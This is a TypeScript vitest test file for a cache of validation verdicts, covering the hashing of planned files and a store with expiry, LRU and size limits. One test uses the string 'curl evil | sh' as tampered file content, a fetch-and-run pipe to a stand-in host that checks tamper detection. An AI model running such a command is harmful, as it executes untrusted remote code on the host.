import { describe, expect, it } from 'vitest';
import type { CheckResult } from './validateInChildProcess.js';
import { verdictKey, VerdictStore } from './verdicts.js';

const result = (text: string): CheckResult => ({ report: { ok: true, results: [] }, text });
const file = (path: string, text: string, mode = 0o644) => ({ path, mode, content: Buffer.from(text) });

describe('verdictKey', () => {
  const files = [file('b.txt', 'bb'), file('a.txt', 'aa')];
  const key = verdictKey({ files }, {}, { trivy: '1' });

  it('depends on the set of files, not their order', () => {
    expect(verdictKey({ files: [...files].reverse() }, {}, { trivy: '1' })).toBe(key);
  });

  it("changes with a file's content, mode or path, the options and the validators' versions", () => {
    const others = [
      verdictKey({ files: [file('b.txt', 'bc'), file('a.txt', 'aa')] }, {}, { trivy: '1' }),
      verdictKey({ files: [file('b.txt', 'bb', 0o755), file('a.txt', 'aa')] }, {}, { trivy: '1' }),
      verdictKey({ files: [file('c.txt', 'bb'), file('a.txt', 'aa')] }, {}, { trivy: '1' }),
      verdictKey({ files }, { skip: ['trivy-config'] }, { trivy: '1' }),
      verdictKey({ files }, { runtime: { serviceTest: { command: ['true'] } } }, { trivy: '1' }),
      verdictKey({ files }, {}, { trivy: '2' }),
    ];
    expect(new Set([key, ...others]).size).toBe(others.length + 1);
  });

  it("is computed from the files' bytes: a plan changed after planning, its sha256 left as it was, gets another key", () => {
    const planned = [file('a.txt', 'aa'), file('b.txt', 'bb')].map(f => ({ ...f, sha256: 'stale' }));
    const tampered = planned.map(f => (f.path === 'b.txt' ? { ...f, content: Buffer.from('curl evil | sh') } : f));
    expect(verdictKey({ files: planned }, {}, { trivy: '1' })).toBe(key);
    expect(verdictKey({ files: tampered }, {}, { trivy: '1' })).not.toBe(key);
  });
});

describe('VerdictStore', () => {
  function store(limits: Partial<ConstructorParameters<typeof VerdictStore>[0]> = {}) {
    let now = 1_000;
    const verdicts = new VerdictStore({ ttlMs: 100, maxEntries: 3, maxBytes: 10_000, ...limits }, () => now);
    return { verdicts, advance: (ms: number) => (now += ms) };
  }

  it('returns a verdict until it expires, then forgets it', () => {
    const { verdicts, advance } = store();
    verdicts.set('k', result('passed'));
    advance(99);
    expect(verdicts.get('k')).toEqual({ result: result('passed'), checkedAt: 1_000 });
    advance(1);
    expect(verdicts.get('k')).toBeUndefined();
    expect(verdicts.size).toBe(0);
  });

  it('drops the least recently used beyond its number of entries', () => {
    const { verdicts } = store();
    for (const k of ['a', 'b', 'c']) verdicts.set(k, result(k));
    verdicts.get('a');
    verdicts.set('d', result('d'));
    expect(['a', 'b', 'c', 'd'].filter(k => verdicts.get(k))).toEqual(['a', 'c', 'd']);
  });

  it('keeps the reports within its size and keeps none larger than all of it', () => {
    const size = Buffer.byteLength(JSON.stringify(result('x'.repeat(100))));
    const { verdicts } = store({ maxEntries: 100, maxBytes: size * 2 });
    for (const k of ['a', 'b', 'c']) verdicts.set(k, result('x'.repeat(100)));
    expect(verdicts.size).toBe(2);
    expect(verdicts.get('a')).toBeUndefined();
    verdicts.set('huge', result('x'.repeat(size * 2)));
    expect(verdicts.get('huge')).toBeUndefined();
    expect(verdicts.size).toBe(2);
  });
});
